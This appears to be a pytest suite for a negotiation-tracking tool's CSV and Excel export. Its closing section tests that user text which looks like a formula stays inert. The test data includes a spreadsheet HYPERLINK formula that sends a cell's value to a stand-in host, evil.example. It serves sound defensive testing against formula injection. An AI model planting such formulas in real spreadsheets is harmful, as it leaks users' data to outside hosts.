"""The positions matrix as CSV and as an Excel workbook, read back with pandas and openpyxl."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from qroundtable.cells import csv_text, printable
from qroundtable.cli import cli
from qroundtable.errors import FileProblem, InvalidInput
from qroundtable.roundtable import Roundtable
from qroundtable.spreadsheet import SHEETS, STALE_SUFFIX, actions_frame, export_matrix, matrix_frame

CODES = ["AU", "CH", "DE", "DK", "FI", "FR", "GB", "JP", "KR", "NL", "SE", "US"]
PRINCIPLES = [f"P{n}" for n in range(1, 8)]


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory):
    from qroundtable.demo import build_demo

    path = tmp_path_factory.mktemp("demo") / "demo.qrt"
    build_demo(path).close()
    return path


@pytest.fixture
def demo(demo_file):
    with Roundtable.open(demo_file) as table:
        yield table


def leftovers(folder) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.endswith(".part")]


def test_the_progress_sheet_is_the_negotiations_history_with_a_chart(demo, workbook):
    progress = demo.progress()
    milestones = pd.read_excel(workbook, sheet_name="Progress", nrows=len(progress.milestones))
    expected = progress.milestones_shown()
    assert list(milestones.columns) == list(expected.columns)
    assert list(milestones["milestone"]) == ["Inaugural roundtable: Pursuing Quantum Information Together",
                                             "October 2023 roundtable", "Now"]
    assert milestones.drop(columns=["date"]).equals(expected.drop(columns=["date"]))
    # The demo's draft was circulated in October 2023: nothing at the 2022 meeting, seven principles after.
    assert list(milestones["principles"]) == [0, 7, 7]
    shifts = pd.read_excel(workbook, sheet_name="Progress", skiprows=len(progress.milestones) + 3,
                           usecols=range(len(progress.shifts.columns)))
    assert list(shifts.columns) == list(progress.shifts_shown().columns)
    assert shifts.iloc[0]["delegation"] == "SE" and shifts.iloc[0]["stance shifts"] == 1  # SE moved away on P4
    assert len(shifts) == 12
    with zipfile.ZipFile(workbook) as z:
        chart = next(z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart"))
    assert "Brackets remaining and principles agreed" in chart and "'Progress'!$F$2:$F$4" in chart


# -- the frame ------------------------------------------------------------------------------------


def test_the_matrix_is_delegations_by_principles_with_stale_ones_marked(demo):
    frame = matrix_frame(demo)
    assert frame.shape == (12, 7)
    assert list(frame.index) == CODES and frame.index.name == "delegation"
    assert list(frame.columns) == PRINCIPLES
    assert frame.loc["CH", "P4"] == "object"
    assert frame.loc["FR", "P2"] == "support_with_amendments"
    assert frame.loc["CH", "P5"] == "support" + STALE_SUFFIX == "support (stale)"
    assert frame.loc["SE", "P5"] == "support_with_amendments"  # given on the current text
    assert frame.loc["CH", "P6"] is None and frame["P7"].isna().all()


def test_a_meeting_keeps_only_its_attendees(demo):
    frame = matrix_frame(demo, "latest")
    assert list(frame.index) == [c for c in CODES if c != "CH"]  # CH did not attend in October 2023


def test_action_items_are_overdue_only_when_past_due_and_unfinished(demo):
    frame = actions_frame(demo, today=date(2026, 12, 1)).set_index("title")
    assert list(frame.columns) == ["owner", "assignee", "due", "status", "principle", "overdue"]
    iwg = frame.loc[[t for t in frame.index if t.startswith("Use the International IWG")][0]]
    assert (iwg["owner"], iwg["status"], iwg["due"], bool(iwg["overdue"])) == ("US", "open", date(2026, 11, 20), True)
    mous = frame.loc[[t for t in frame.index if t.startswith("Circulate effective practices")][0]]
    assert mous["status"] == "done" and not mous["overdue"]  # past due, but done
    assert frame["overdue"].sum() == 1


# -- CSV ------------------------------------------------------------------------------------------


def test_csv_reads_back_as_the_same_matrix(demo, tmp_path):
    out = demo.export_matrix(tmp_path / "matrix.csv", "csv")
    assert out == tmp_path / "matrix.csv"
    back = pd.read_csv(out)
    assert back.shape == (12, 8)
    assert list(back.columns) == ["delegation", *PRINCIPLES]
    back = back.set_index("delegation")
    assert back.fillna("").equals(matrix_frame(demo).fillna(""))
    assert back.loc["CH", "P4"] == "object" and back.loc["DE", "P5"] == "support (stale)"
    assert leftovers(tmp_path) == []


def test_csv_of_a_meeting(demo, tmp_path):
    back = pd.read_csv(demo.export_matrix(tmp_path / "m.csv", "csv", meeting="latest"))
    assert back.shape == (11, 8) and "CH" not in set(back["delegation"])


def test_an_empty_roundtable_exports_empty_cells(rt, tmp_path):
    back = pd.read_csv(rt.export_matrix(tmp_path / "empty.csv", "csv"), keep_default_na=False)
    assert list(back.columns) == ["delegation", "P1"] and list(back["P1"]) == ["", "", ""]
    book = pd.read_excel(rt.export_matrix(tmp_path / "empty.xlsx", "xlsx"), sheet_name=None)
    assert list(book) == list(SHEETS) and book["Action items"].empty


# -- the workbook --------------------------------------------------------------------------------


@pytest.fixture
def workbook(demo, tmp_path):
    return export_matrix(demo, tmp_path / "matrix.xlsx", "xlsx", today=date(2026, 12, 1))


def test_the_workbook_has_four_sheets_that_read_back(demo, workbook):
    book = pd.read_excel(workbook, sheet_name=None)
    assert list(book) == ["Positions", "Consensus", "Action items", "Progress"]

    # The legend sits below the table: the matrix is its first 12 rows.
    positions = pd.read_excel(workbook, sheet_name="Positions", nrows=12, index_col=0)
    assert positions.shape == (12, 7) and list(positions.index) == CODES
    assert positions.index.name == "delegation" and list(positions.columns) == PRINCIPLES
    assert positions.fillna("").equals(matrix_frame(demo).fillna(""))

    consensus = book["Consensus"].set_index("principle")
    assert consensus.shape == (7, 12)
    assert list(consensus.columns) == ["title", "status", "support", "support_with_amendments", "reservation",
                                       "abstain", "object", "no_position", "missing", "objecting", "by_silence",
                                       "by_vote"]
    assert consensus.loc[3, "status"] == "agreed" and consensus.loc[3, "by_silence"]  # the demo's silence
    assert not consensus["by_vote"].any()  # the demo's roll call is still open
    p4 = consensus.loc[4]
    assert (p4["status"], p4["object"], p4["objecting"]) == ("contested", 1, "CH")
    assert p4["title"] == "Research security and a fair marketplace"
    assert consensus.loc[7, "no_position"] == 12 and consensus.loc[7, "status"] == "not_discussed"

    actions = book["Action items"]
    assert actions.shape == (7, 7)
    assert list(actions.columns) == ["title", "owner", "assignee", "due", "status", "principle", "overdue"]
    assert actions["overdue"].dtype == bool and actions["overdue"].sum() == 1
    assert pd.api.types.is_datetime64_any_dtype(actions["due"])


def test_stance_cells_carry_the_apps_colours_and_panes_are_frozen(workbook):
    wb = openpyxl.load_workbook(workbook)
    ws = wb["Positions"]
    assert ws.freeze_panes == "B2" and wb["Consensus"].freeze_panes == "B2"
    assert wb["Action items"].freeze_panes == "B2"
    cell = {(ws.cell(r, 1).value, ws.cell(1, c).value): ws.cell(r, c) for r in range(2, 14) for c in range(2, 9)}

    def look(code, principle):
        c = cell[(code, principle)]
        return c.value, c.fill.fgColor.rgb if c.fill.fill_type else None, c.font.color.rgb if c.font.color else None

    assert look("CH", "P4") == ("object", "FFD55E00", "FF1F0A00")
    assert look("AU", "P1") == ("support", "FF009E73", "FF001A12")
    assert look("FR", "P2") == ("support_with_amendments", "FF56B4E9", "FF0B2233")
    assert look("JP", "P4") == ("reservation", "FFE69F00", "FF2B1D00")
    assert look("FI", "P6") == ("abstain", "FFBBBBBB", "FF202020")
    assert look("CH", "P5") == ("support (stale)", "FFF2F2F2", "FF6E6E6E") and cell[("CH", "P5")].font.italic
    assert look("CH", "P6")[:2] == (None, None)

    # The header names each principle in a comment; the legend explains every colour.
    assert "Research security" in ws["E1"].comment.text
    legend = {ws.cell(r, 2).value: ws.cell(r, 3).value for r in range(15, ws.max_row + 1) if ws.cell(r, 3).value}
    assert ws.cell(15, 1).value == "Legend"
    assert {"support", "support_with_amendments", "reservation", "abstain", "object", "support (stale)",
            None} <= set(legend)
    assert "older version" in legend["support (stale)"]

    # Wide enough for the longest stance; the code column stays narrow.
    assert ws.column_dimensions["C"].width >= len("support_with_amendments")
    assert ws.column_dimensions["A"].width < 20

    status = {wb["Consensus"].cell(r, 3).value: wb["Consensus"].cell(r, 3).fill.fgColor.rgb for r in range(2, 9)}
    assert status["contested"] == "FFD55E00" and status["agreed"] == "FF009E73"
    actions = wb["Action items"]
    overdue = [r for r in range(2, 9) if actions.cell(r, 7).value is True]
    # Overdue in the app's overdue colours (qroundtable/palette.py), the date and the flag.
    assert len(overdue) == 1 and actions.cell(overdue[0], 4).font.color.rgb == "FF9A3A00"
    assert actions.cell(overdue[0], 7).fill.fgColor.rgb == "FFFBE0D0" and actions.cell(overdue[0], 7).font.bold
    assert actions.cell(2, 4).number_format == "yyyy-mm-dd"


# -- never overwrite by surprise, never leave half a file ----------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_existing_file_is_replaced_only_when_asked(demo, tmp_path, fmt):
    out = tmp_path / f"matrix.{fmt}"
    out.write_text("keep me")
    with pytest.raises(FileProblem, match="already exists"):
        demo.export_matrix(out, fmt)
    assert out.read_text() == "keep me"
    demo.export_matrix(out, fmt, overwrite=True)
    assert out.read_bytes() != b"keep me" and leftovers(tmp_path) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_cancelled_export_leaves_nothing_behind(demo, tmp_path, fmt):
    class Stop(Exception):
        pass

    def progress(done, total, text):
        if done == total:  # the very last step, after the file has been written in full
            raise Stop()

    with pytest.raises(Stop):
        demo.export_matrix(tmp_path / f"new.{fmt}", fmt, progress=progress)
    assert list(tmp_path.iterdir()) == []
    old = tmp_path / f"old.{fmt}"
    old.write_text("old content")
    with pytest.raises(Stop):
        demo.export_matrix(old, fmt, overwrite=True, progress=progress)
    assert old.read_text() == "old content" and leftovers(tmp_path) == []


def test_bad_format_folder_or_meeting_is_refused(demo, tmp_path):
    with pytest.raises(InvalidInput, match="csv or xlsx"):
        demo.export_matrix(tmp_path / "m.ods", "ods")
    with pytest.raises(FileProblem, match="folder"):
        demo.export_matrix(tmp_path, "csv")
    with pytest.raises(Exception, match="meeting"):
        demo.export_matrix(tmp_path / "m.csv", "csv", meeting="no-such-meeting")
    assert list(tmp_path.iterdir()) == []


def test_missing_folders_are_made(demo, tmp_path):
    out = demo.export_matrix(tmp_path / "exports" / "2026" / "m.csv", "csv")
    assert out.is_file()


# -- the command line -----------------------------------------------------------------------------


def run(db, *args):
    return CliRunner().invoke(cli, ["--db", str(db), "export", "matrix", *args])


def test_cli_writes_csv_and_xlsx(demo_file, tmp_path):
    result = run(demo_file, "--format", "csv", "--out", str(tmp_path / "m.csv"))
    assert result.exit_code == 0, result.output
    assert "12 delegations × 7 principles" in result.stdout
    assert pd.read_csv(tmp_path / "m.csv").shape == (12, 8)
    result = run(demo_file, "--format", "xlsx", "--out", str(tmp_path / "m.xlsx"), "--meeting", "latest")
    assert result.exit_code == 0, result.output
    assert "11 delegations" in result.stdout
    assert pd.read_excel(tmp_path / "m.xlsx", sheet_name="Positions", nrows=11, index_col=0).shape == (11, 7)


def test_cli_bad_format_is_a_usage_error(demo_file, tmp_path):
    result = run(demo_file, "--format", "ods", "--out", str(tmp_path / "m.ods"))
    assert result.exit_code == 2 and "ods" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_cli_refuses_an_existing_file_in_one_line(demo_file, tmp_path):
    out = tmp_path / "m.csv"
    out.write_text("keep me")
    result = run(demo_file, "--format", "csv", "--out", str(out))
    assert result.exit_code == 1 and result.stdout == "" and "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "already exists" in lines[0] and "--force" in lines[0]
    assert out.read_text() == "keep me"
    assert run(demo_file, "--format", "csv", "--out", str(out), "--force").exit_code == 0
    assert out.read_text().startswith("delegation,P1,")


def test_cli_unknown_meeting_is_one_line(demo_file, tmp_path):
    result = run(demo_file, "--format", "csv", "--out", str(tmp_path / "m.csv"), "--meeting", "nope")
    assert result.exit_code == 1 and len(result.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "m.csv").exists()


# -- user text stays text -------------------------------------------------------------------------

SOFFICE = shutil.which("soffice")
LEAK = '=HYPERLINK("https://evil.example/?leak="&A2,"Principle 4")'
FORMULAS = [LEAK, "=1+1", "+2+3", "-2+3", "@SUM(1,2)", "#N/A"]


@pytest.fixture
def hostile(tmp_path):
    """A roundtable whose titles, names and assignees look like formulas or hold unwritable characters."""
    with Roundtable.create(tmp_path / "hostile.qrt", title="=1+1 roundtable", secretariat="US") as table:
        table.delegations.add("JP", "=Japan")
        for n, title in enumerate(FORMULAS, start=1):
            table.principles.add(title, f"Text {n}.")
            table.positions.set("JP", n, "support")
        table.principles.add("odd \ufffe\uffff\ufdd0\U0001ffff end", "Text.")
        table.actions.add("=1+1", "US", due="2020-01-01", assignee="-2+3")
        table.actions.add("@SUM(1,2)", "JP", due="2020-01-02", assignee="+44 20 7946 0000")
        table.actions.add("plain", "JP")
        # Control characters the core refuses today may sit in an older file or an imported row.
        with table.batch("an older file's row"):
            item = next(a for a in table.actions.list() if a.title == "plain")
            table.store.update("action_items", item.id, {"title": "ctl \x01\x0b\x1f end"})
        yield table


def sheet_values(path) -> dict[str, list[list]]:
    wb = openpyxl.load_workbook(path)
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb}


def test_user_text_is_never_a_formula_in_the_workbook(hostile, tmp_path):
    out = export_matrix(hostile, tmp_path / "h.xlsx", "xlsx", today=date(2026, 12, 1))
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    with zipfile.ZipFile(out) as z:  # no formula element anywhere in the package
        assert not any(re.search(rb"<(\w+:)?f[ >]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets"))
    consensus = {row[0]: row[1] for row in sheet_values(out)["Consensus"][1:]}
    assert [consensus[n] for n in range(1, 7)] == FORMULAS
    actions = {row[0]: row[2] for row in sheet_values(out)["Action items"][1:]}
    assert actions["=1+1"] == "-2+3" and actions["@SUM(1,2)"] == "+44 20 7946 0000"
    # Excel's quote prefix: the text stays text even when someone edits the cell and presses Enter.
    leak = next(c for c in wb["Consensus"]["B"] if c.value == LEAK)
    assert leak.data_type == "s" and leak.quotePrefix
    assert wb["Positions"]["B1"].comment.text == f"P1: {LEAK}"


def test_characters_a_workbook_cannot_hold_become_replacement_characters(hostile, tmp_path):
    out = export_matrix(hostile, tmp_path / "h.xlsx", "xlsx", today=date(2026, 12, 1))
    titles = [row[1] for row in sheet_values(out)["Consensus"][1:]]
    assert titles[-1] == "odd \ufffd\ufffd\ufffd\ufffd end"
    assert "ctl \ufffd\ufffd\ufffd end" in [row[0] for row in sheet_values(out)["Action items"][1:]]
    assert openpyxl.load_workbook(out).properties.title == "=1+1 roundtable: positions"
    assert printable("a\ud800b\x00c\td\ne\rf") == "a\ufffdb\ufffdc\td\ne\rf"  # tab and line ends are text


@pytest.mark.parametrize("text, field", [
    ("=1+1", "'=1+1"), ("+2+3", "'+2+3"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), (LEAK, "'" + LEAK), ("support", "support"), ("a=b", "a=b"), ("", ""), (None, ""), (3, "3"),
    ("bad \uffff", "bad \ufffd"),
])
def test_csv_fields_are_neutralised_as_owasp_recommends(text, field):
    assert csv_text(text) == field


def test_the_matrix_csv_neutralises_codes_from_the_file(demo_file, tmp_path):
    import shutil as sh

    copy = tmp_path / "odd.qrt"
    sh.copy(demo_file, copy)
    with Roundtable.open(copy) as table:
        with table.batch("a code no check would let in today"):
            row = next(d for d in table.delegations.list() if d.code == "AU")
            table.store.update("delegations", row.id, {"code": "=AU"})
        out = table.export_matrix(tmp_path / "m.csv", "csv")
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[1].startswith("'=AU,support,")


def test_the_consensus_csv_of_the_command_line_neutralises_titles(hostile):
    result = CliRunner().invoke(cli, ["--db", str(hostile.path), "consensus", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert [r[1] for r in rows[1:7]] == ["'" + f for f in FORMULAS[:5]] + ["#N/A"]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_every_title_as_text(hostile, tmp_path):
    """LibreOffice opens both files as a user would; nothing is evaluated, nothing becomes a link."""
    xlsx = export_matrix(hostile, tmp_path / "h.xlsx", "xlsx", today=date(2026, 12, 1))
    matrix_csv = hostile.export_matrix(tmp_path / "m.csv", "csv")
    consensus_csv = tmp_path / "consensus.csv"
    consensus_csv.write_text(CliRunner().invoke(cli, ["--db", str(hostile.path), "consensus", "--format",
                                                      "csv"]).stdout, encoding="utf-8")
    profile = f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}"

    def soffice(*args) -> None:
        result = subprocess.run([SOFFICE, profile, "--headless", *map(str, args)], capture_output=True, text=True,
                                timeout=240)
        assert result.returncode == 0 and "Error" not in result.stderr, (
            result.stderr + "\n(LibreOffice Calc is needed: apt install libreoffice-calc-nogui)")

    # The workbook, every sheet as the values LibreOffice shows: "=1+1" must not read "2".
    soffice("--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir", tmp_path / "shown", xlsx)
    shown = {p.stem.removeprefix("h-"): list(csv.reader(p.open(encoding="utf-8")))
             for p in (tmp_path / "shown").glob("*.csv")}
    assert [r[1] for r in shown["Consensus"][1:7]] == FORMULAS
    assert {r[0] for r in shown["Action items"][1:]} >= {"=1+1", "@SUM(1,2)"}
    assert "-2+3" in {r[2] for r in shown["Action items"][1:]}
    assert "Principle 4" not in {v for rows in shown.values() for r in rows for v in r}

    # The CSV files opened with formula evaluation on (the riskiest setting): every field stays text.
    options = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
    soffice(f"--infilter={options}", "--convert-to", "xlsx", "--outdir", tmp_path / "opened", matrix_csv,
            consensus_csv)
    for name in ("m", "consensus"):
        ws = openpyxl.load_workbook(tmp_path / "opened" / f"{name}.xlsx").active
        assert [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] == [], name
    titles = [row[1].value for row in openpyxl.load_workbook(tmp_path / "opened" / "consensus.xlsx").active.iter_rows()]
    assert all(LEAK in t for t in titles if t and "HYPERLINK" in t) and any("HYPERLINK" in (t or "") for t in titles)
